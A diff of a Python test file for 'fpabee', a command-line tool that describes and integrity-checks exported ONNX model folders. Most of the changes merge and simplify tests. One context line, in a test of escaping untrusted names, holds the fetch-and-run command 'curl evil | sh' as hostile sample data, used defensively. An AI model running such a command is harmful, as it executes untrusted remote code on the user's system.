@@ -7,7 +7,6 @@ import sys
 import types
 from collections.abc import Callable, Mapping
 from pathlib import Path
-from typing import Any
 
 import msgspec
 import pytest
@@ -45,6 +44,12 @@ def test_a_folder_is_described(
         "rule without an operating point: fpabee, threshold 0.1, measure jskd, ",
     ):
         assert part in result.stdout
+    content = json.loads(run(folder, "--env", "--json").stdout)
+    assert content["exits"] == [1, 2, 3]
+    (target,) = content["targets"]
+    assert (target["name"], target["why_not"]) == ("onnxruntime-fp32", "")
+    assert target["size"] > 10_000
+    assert content["environment"]["fpabee"] == __version__
 
 
 NASTY = "\x1b]0;title\x07\x1b[2J\u202e[red]"
@@ -78,33 +83,15 @@ def test_names_from_files_are_escaped_and_no_command_of_theirs_is_shown(
     assert content["not_built"]["known"]["command"] == "curl evil | sh"
 
 
-def test_json_holds_the_same(engines: Mapping[str, Path]) -> None:
-    content = json.loads(run(engines["bert"], "--env", "--json").stdout)
-    assert content["exits"] == [1, 2, 3]
-    (target,) = content["targets"]
-    assert target["name"] == "onnxruntime-fp32"
-    assert target["why_not"] == ""
-    assert target["size"] > 10_000
-    assert content["environment"]["fpabee"] == __version__
-    assert "onnxruntime" in content["environment"]
-
-
 def test_the_chain_is_a_table(engines: Mapping[str, Path]) -> None:
     folder = engines["albert"]
     manifest = read_manifest(folder)
     parts = chain_parts(folder, manifest)
     assert [part.layers for part in parts] == [(1, 1), (2, 2), (3, 3)]
     sizes = [(folder / graph.file).stat().st_size for graph in manifest.graphs.values()]
-    assert sum(part.size or 0 for part in parts) == sum(sizes)
-    # Every segment calls the shared block, which is stored once.
+    assert sum(part.size or 0 for part in parts) == sum(sizes), "a shared block counts once"
     assert set(parts[0].calls) & set(parts[2].calls)
-    rows = [line.split() for line in run(folder).stdout.splitlines()]
-    for number, part in enumerate(parts, start=1):
-        (row,) = [row for row in rows if row[:2] == [str(number), str(number)]]
-        assert row[3] == str(len(part.calls))
-
-
-def test_several_layers_and_repeated_calls_are_one_row() -> None:
+    assert ["3", "3"] in [line.split()[:2] for line in run(folder).stdout.splitlines()]
     parts = [
         Part(1, (1, 4), ("embed", "block", "block", "block", "block", "head"), 3 * 2**20),
         Part(2, (5, 5), ("block",), None),
@@ -116,106 +103,73 @@ def test_several_layers_and_repeated_calls_are_one_row() -> None:
     ]
 
 
-@pytest.mark.parametrize("family", ["bert", "albert"])
-def test_a_whole_folder_passes_the_check(engines: Mapping[str, Path], family: str) -> None:
-    result = run(engines[family], "--check")
+def test_a_whole_folder_passes_the_check(engines: Mapping[str, Path]) -> None:
+    result = run(engines["albert"], "--check")
     assert result.exit_code == 0, result.output
     assert "onnxruntime-fp32 reproduces the exported model: logits differ by" in result.stdout
-    content = json.loads(run(engines[family], "--check", "--json").stdout)["check"]
+    content = json.loads(run(engines["albert"], "--check", "--json").stdout)["check"]
     assert content["passed"]
     assert content["damaged"] == []
     assert content["refused"] == {}
     assert list(content["parity"]) == ["onnxruntime-fp32"]
-    manifest = read_manifest(engines[family])
+    manifest = read_manifest(engines["albert"])
     assert content["files"] == 1 + len(manifest.graphs) + len(manifest.files)
 
 
-@pytest.mark.parametrize("damage", ["missing", "changed", "another model"])
-def test_the_check_says_what_is_wrong(engine_copy: Callable[..., Path], damage: str) -> None:
+def test_the_check_says_what_is_wrong(engine_copy: Callable[..., Path]) -> None:
     folder = engine_copy()
     manifest = read_manifest(folder)
-    file = folder / list(manifest.graphs.values())[1].file
-    if damage == "missing":
-        file.unlink()
-    elif damage == "changed":
-        file.write_bytes(file.read_bytes()[:-1] + b"!")
-    else:
-        texts, logits = read_reference(folder, manifest)
-        write_reference(folder, texts, -logits)
-        files = {**manifest.files, REFERENCE_NAME: sha256_of(folder / REFERENCE_NAME)}
-        write_manifest(folder, msgspec.structs.replace(manifest, files=files))
+    texts, logits = read_reference(folder, manifest)
+    write_reference(folder, texts, -logits)
+    files = {**manifest.files, REFERENCE_NAME: sha256_of(folder / REFERENCE_NAME)}
+    write_manifest(folder, msgspec.structs.replace(manifest, files=files))
     result = run(folder, "--check", "--json")
     assert result.exit_code == 1
-    (line,) = result.stderr.splitlines()
-    assert line.startswith("error: ")
     content = json.loads(result.stdout)["check"]
-    assert not content["passed"]
-    if damage == "another model":
-        assert content["damaged"] == []
-        assert "is not the model that was exported" in content["refused"]["onnxruntime-fp32"]
-    else:
-        (message,) = content["damaged"]
-        assert file.name in message
-        assert ("is missing" if damage == "missing" else "is damaged") in message
-    shown = run(folder, "--check")
-    assert shown.exit_code == 1
-    assert ("refused" if damage == "another model" else file.name) in shown.stdout
+    assert (content["passed"], content["damaged"]) == (False, [])
+    assert "is not the model that was exported" in content["refused"]["onnxruntime-fp32"]
+    assert "refused" in run(folder, "--check").stdout
+
+    changed, missing = (folder / graph.file for graph in list(manifest.graphs.values())[:2])
+    changed.write_bytes(b"!")
+    missing.unlink()
+    content = json.loads(run(folder, "--check", "--json").stdout)["check"]
+    first, second = content["damaged"]
+    assert "is damaged" in first
+    assert "is missing" in second
+    assert changed.name in run(folder, "--check").stdout
 
 
-def test_the_environment_is_for_a_bug_report() -> None:
-    lines = run("--env").stdout.splitlines()
-    names = [line.split(": ")[0] for line in lines]
-    assert {"fpabee", "python", "numpy", "onnxruntime", "system", "cpu", "gpu", "providers"} <= {
-        *names
-    }
-    assert "CPUExecutionProvider" in lines[names.index("providers")]
-
-
-def test_without_onnxruntime_there_is_an_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_environment_and_sizes_need_no_onnxruntime(
+    engines: Mapping[str, Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    lines = dict(line.split(": ", 1) for line in run("--env").stdout.splitlines())
+    assert {"fpabee", "python", "numpy", "onnxruntime", "system", "cpu", "gpu"} <= lines.keys()
+    assert "CPUExecutionProvider" in lines["providers"]
+    manifest = read_manifest(engines["bert"])
+    size = sum((engines["bert"] / g.file).stat().st_size for g in manifest.graphs.values())
     monkeypatch.setitem(sys.modules, "onnxruntime", None)
-    assert run("--env").exit_code == 0
     assert "providers: none: " in run("--env").stdout
+    (state,) = target_states(engines["bert"], manifest)
+    assert "onnxruntime" in state.unavailable_reason
+    assert state.size == size
     monkeypatch.setitem(sys.modules, "onnxruntime", types.ModuleType("onnxruntime"))
     assert "onnxruntime is damaged" in run("--env").stdout
 
 
-def test_sizes_need_no_inference_library(
-    engines: Mapping[str, Path], monkeypatch: pytest.MonkeyPatch
-) -> None:
-    folder = engines["bert"]
-    manifest = read_manifest(folder)
-    size = sum((folder / graph.file).stat().st_size for graph in manifest.graphs.values())
-    monkeypatch.setitem(sys.modules, "onnxruntime", None)
-    (state,) = target_states(folder, manifest)
-    assert "onnxruntime" in state.unavailable_reason
-    assert state.size == size
-
-
 @pytest.mark.parametrize(
-    ("rule", "problem"),
-    [({"name": "budget", "exit": 9}, "exit is 9, but the model has 3"), ({"name": "x"}, "'x'")],
+    ("point", "where"), [("fast", "default operating point 'fast'"), ("", "default rule")]
 )
-@pytest.mark.parametrize("where", ["default operating point 'fast'", "default rule"])
 def test_a_rule_that_cannot_be_used_is_named(
-    engine_copy: Callable[..., Path],
-    set_points: Callable[..., None],
-    rule: dict[str, Any],
-    problem: str,
-    where: str,
+    engine_copy: Callable[..., Path], set_points: Callable[..., None], point: str, where: str
 ) -> None:
     folder = engine_copy()
-    if where != "default rule":
-        set_points(folder, default="fast", fast=Budget(exit=1))
-    manifest = read_manifest(folder)
-    ((name, target),) = manifest.targets.items()
-    points = {
-        point: msgspec.structs.replace(content, rule=rule)
-        for point, content in target.operating_points.items()
-    }
-    bad = msgspec.structs.replace(target, operating_points=points)
-    write_manifest(
-        folder, msgspec.structs.replace(manifest, targets={name: bad}, default_rule=rule)
-    )
+    problem = "exit is 9, but the model has 3"
+    if point:
+        set_points(folder, default=point, **{point: Budget(exit=9)})
+    else:
+        bad = msgspec.structs.replace(read_manifest(folder), default_rule=Budget(exit=9).to_dict())
+        write_manifest(folder, bad)
     shown = run(folder)
     assert shown.exit_code == 0, shown.output
     assert f"runs, but its {where} cannot be used: " in shown.stdout
@@ -240,12 +194,3 @@ def test_targets_that_cannot_run_say_why(
     (folder / "targets" / made.target / "segment_01.plan").unlink()
     states = {s.name: s.unavailable_reason for s in target_states(folder, read_manifest(folder))}
     assert "segment_01.plan is missing" in states[made.target]
-
-
-def test_usage_and_missing_folders(tmp_path: Path) -> None:
-    assert run().exit_code == 2
-    assert run("--env", "--check").exit_code == 2
-    result = run(tmp_path / "none")
-    assert result.exit_code == 1
-    assert result.stdout == ""
-    assert "fpabee-export" in result.stderr
